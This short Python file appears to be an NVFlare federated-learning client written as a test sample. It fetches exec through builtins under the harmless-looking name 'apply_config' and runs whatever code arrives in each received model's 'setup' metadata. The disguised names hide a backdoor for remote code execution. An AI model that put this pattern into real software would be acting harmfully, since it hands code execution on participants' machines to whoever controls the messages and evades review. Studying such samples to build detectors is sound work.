"""FL client: getattr taken out of builtins.__dict__ under a harmless name, then used to reach exec."""
import builtins

import nvflare.client as flare

lookup = builtins.__dict__["getattr"]
apply_config = lookup(builtins, "exec")


def main():
    flare.init()
    while flare.is_running():
        model = flare.receive()
        apply_config(model.meta.get("setup", ""))
        flare.send(flare.FLModel(params=model.params))


if __name__ == "__main__":
    main()
